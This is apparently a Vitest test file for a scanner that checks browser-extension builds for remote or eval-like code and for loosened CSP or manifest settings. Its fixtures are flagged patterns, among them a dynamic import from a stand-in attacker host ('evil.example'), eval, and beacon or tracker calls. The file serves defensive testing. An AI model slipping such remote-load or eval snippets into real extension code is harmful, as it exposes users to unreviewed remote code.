// The dist scanner (scripts/scan-dist.mjs) itself: it must find each kind of remote or eval-like
// code, and a policy change in either manifest, and stay quiet on a clean extension.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
// @ts-expect-error: plain JS script, also run as a CLI
import { scanDist } from '../../scripts/scan-dist.mjs';

const SCRIPT = resolve(__dirname, '../../scripts/scan-dist.mjs');
const MANIFEST = { manifest_version: 3, name: 'x', version: '1', background: { service_worker: 'background.js' } };
const CLEAN = {
  'manifest.json': JSON.stringify(MANIFEST),
  'background.js': '(()=>{const t=chrome.storage.sync;t.get("settings").then(s=>console.log(s));})();',
  'popup.html': '<!doctype html><link rel="stylesheet" href="popup.css"><script src="popup.js"></script>',
  'popup.css': 'body{font:13px system-ui;background:url(icons/bg.png)}',
  'popup.js': 'const evaluate=1;obj.evaluation(2);x.retrieval(3);a.prefetch;',
};
const dirs: string[] = [];

type Finding = { rule: string; file: string };
function ext(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'scan-dist-'));
  dirs.push(dir);
  for (const [name, body] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), body);
  }
  return dir;
}
const rules = (files: Record<string, string>) => (scanDist([ext({ ...CLEAN, ...files })]) as Finding[]).map((f) => f.rule);

afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

describe('scan-dist', () => {
  it('finds nothing in a clean extension', () => {
    expect(rules({})).toEqual([]);
  });

  const cases: [string, Record<string, string>, string][] = [
    ['eval(', { 'content.js': 'var x=eval("1+1")' }, 'eval'],
    ['eval with space', { 'content.js': 'window.x=1;eval ( s )' }, 'eval'],
    ['new Function(', { 'background.js': 'const f=new Function("a","return a")' }, 'new-function'],
    ['Function("…")', { 'background.js': 'const f=Function("return this")()' }, 'function-ctor'],
    ['setTimeout("…")', { 'content.js': 'setTimeout("alert(1)",10)' }, 'string-timer'],
    ['importScripts', { 'background.js': 'importScripts("https://cdn.example/x.js")' }, 'import-scripts'],
    ['remote import()', { 'background.js': 'import("https://evil.example/m.js")' }, 'remote-import'],
    ['remote <script src>', { 'options.html': '<script src="https://cdn.example.com/lib.js"></script>' }, 'remote-src'],
    ['protocol-relative src', { 'options.html': '<img src=//tracker.example/p.gif>' }, 'remote-src'],
    ['remote stylesheet link', { 'options.html': '<link rel="stylesheet" href="https://fonts.example.com/a.css">' }, 'remote-href'],
    ['@import of a remote sheet', { 'popup.css': '@import url("https://example.com/x.css");' }, 'remote-css-import'],
    ['url() to a remote font', { 'popup.css': '@font-face{src:url(https://example.com/f.woff2)}' }, 'remote-css-url'],
    ['Google Fonts', { 'popup.css': '/* fonts.googleapis.com */' }, 'font-cdn'],
    ['fetch(', { 'background.js': 'fetch(u).then(r=>r.json())' }, 'fetch'],
    ['self.fetch(', { 'background.js': 'self.fetch(u)' }, 'fetch'],
    ['XMLHttpRequest', { 'content.js': 'new XMLHttpRequest' }, 'xhr'],
    ['WebSocket', { 'content.js': 'new WebSocket("wss://x")' }, 'websocket'],
    ['sendBeacon', { 'content.js': 'navigator.sendBeacon(u,d)' }, 'beacon'],
    ['inline script', { 'popup.html': '<script>alert(1)</script>' }, 'inline-script'],
    ['inline handler', { 'popup.html': '<body onload="go()">' }, 'inline-handler'],
    ['meta CSP', { 'popup.html': '<meta http-equiv="Content-Security-Policy" content="x">' }, 'meta-csp'],
    ['a wasm or other unknown binary', { 'lib.wasm': '\0asm' }, 'unexpected-file'],
  ];
  for (const [name, files, rule] of cases) {
    it(`flags ${name}`, () => {
      expect(rules(files)).toContain(rule);
    });
  }

  it('accepts the default CSP written out, and flags any loosened one', () => {
    const withCsp = (csp: unknown) => rules({ 'manifest.json': JSON.stringify({ ...MANIFEST, content_security_policy: csp }) });
    expect(withCsp({ extension_pages: "script-src 'self'; object-src 'self';" })).toEqual([]);
    expect(withCsp({ extension_pages: "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'" })).toEqual([]);
    expect(withCsp({ extension_pages: "script-src 'self' 'unsafe-eval'; object-src 'self';" })).toEqual(['csp']);
    expect(withCsp({ extension_pages: "script-src 'self' https://cdn.example.com; object-src 'self';" })).toEqual(['csp']);
    expect(withCsp({ sandbox: "sandbox allow-scripts; script-src 'self' 'unsafe-eval'" })).toEqual(['csp']);
    expect(withCsp("script-src 'self' 'unsafe-eval'")).toEqual(['csp']);
  });

  it('flags manifest keys that open the extension to pages or other code', () => {
    const m = (extra: object) => rules({ 'manifest.json': JSON.stringify({ ...MANIFEST, ...extra }) });
    expect(m({ externally_connectable: { matches: ['https://*.example.com/*'] } })).toEqual(['externally-connectable']);
    expect(m({ sandbox: { pages: ['s.html'] } })).toEqual(['sandbox']);
    expect(m({ web_accessible_resources: [{ resources: ['*.js'], matches: ['<all_urls>'] }] })).toEqual(['web-accessible']);
    expect(m({ manifest_version: 2 })).toEqual(['manifest-version']);
  });

  it('scans both dist/chrome and dist/firefox when given dist/, and reports a missing build', () => {
    const dist = ext({});
    for (const b of ['chrome', 'firefox']) {
      mkdirSync(join(dist, b));
      writeFileSync(join(dist, b, 'manifest.json'), JSON.stringify(MANIFEST));
    }
    writeFileSync(join(dist, 'firefox', 'background.js'), 'eval("x")');
    const found = scanDist([dist]) as Finding[];
    expect(found.map((f) => f.rule)).toEqual(['eval']);
    expect(found[0]?.file).toContain('firefox');
    expect((scanDist([join(dist, 'nope')]) as Finding[]).map((f) => f.rule)).toEqual(['missing']);
  });

  it('as a CLI: prints each finding with its place and exits 1; exits 0 when clean', () => {
    const bad = ext({ ...CLEAN, 'content.js': 'a;\nb;\n  eval(x)' });
    const r = spawnSync('node', [SCRIPT, bad], { encoding: 'utf8' });
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/content\.js:3:3 {2}\[eval\]/);
    expect(r.stdout).toMatch(/1 finding/);
    const ok = spawnSync('node', [SCRIPT, ext(CLEAN)], { encoding: 'utf8' });
    expect(ok.status).toBe(0);
    expect(ok.stdout).toMatch(/clean/);
  });
});
